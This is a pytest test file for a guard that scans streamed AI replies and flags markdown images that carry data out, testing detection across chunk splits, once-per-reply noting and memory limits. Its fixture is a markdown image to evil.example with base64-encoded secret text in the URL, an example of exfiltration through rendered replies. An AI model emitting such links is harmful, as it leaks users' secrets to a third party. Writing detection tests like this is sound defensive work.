"""What shipped rules look for in replies is noted, whatever the deltas; nothing is stopped."""

from typing import Any

import pytest

from narrows.controls.reply_packs import OVERLAP, PIECE, ReplyPacks
from narrows.model.refusal import Code
from narrows.model.reply import Delta, Event
from narrows.model.verdict import PROCEED, Note
from narrows.ports.control import Guard
from unit.controls.calls import begun, call
from unit.controls.probing import PLAN, rules

IMAGE = "![logo](https://evil.example/p.png?q=c2VjcmV0IGtleSBpcyBoZXJl)"
NOTE = Note(Code.REPLY_DENIED, "a", "reply-links/image-with-data@2", flagged=True)


def searching() -> Guard:
    about = call(PLAN)
    guard = begun(ReplyPacks(rules(responses=[{"flag": {"packs": ["reply-links"]}}])), about)
    assert guard.on_request(about) is PROCEED
    return guard


def noted(guard: Guard, *texts: str, field: str = "content", **last: Any) -> list[Note]:
    notes: list[Note] = []
    for index, text in enumerate(texts):
        more = last if index == len(texts) - 1 else {}
        event = Event(data={}, deltas=[Delta(0, field, text)], **more)
        assert guard.on_event(event) is None
        notes += event.notes
    return notes


@pytest.mark.parametrize("size", [1, 9, 10_000])
@pytest.mark.parametrize("before", ["", "x" * (PIECE - 30), "x " * PIECE])
def test_a_picture_is_noted_wherever_it_is_cut(size: int, before: str) -> None:
    reply = f"{before}{IMAGE} and more"
    pieces = [reply[at : at + size] for at in range(0, len(reply), size)]
    assert noted(searching(), *pieces, last=True) == [NOTE]


def test_each_rule_is_noted_once_a_reply() -> None:
    assert noted(searching(), IMAGE * 200, IMAGE * 200, last=True) == [NOTE]


def test_a_field_s_end_is_enough() -> None:
    assert noted(searching(), IMAGE, ends=((0, "content"),)) == [NOTE]


def test_little_is_kept_of_a_long_reply() -> None:
    guard = searching()
    assert noted(guard, *["ordinary words " * 100] * 50) == []
    (held,) = guard._held.values()  # type: ignore[attr-defined]
    assert len(held) < PIECE + OVERLAP


@pytest.mark.parametrize(("field", "found"), [("repeat:content", True), ("other", True), ("envelope:id", False)])
def test_other_fields(field: str, found: bool) -> None:
    assert bool(noted(searching(), IMAGE, field=field)) is found


def test_without_packs_there_is_no_guard() -> None:
    assert ReplyPacks(rules(responses=[{"flag": {"words": ["x"]}}])).begin(call(PLAN)) is None
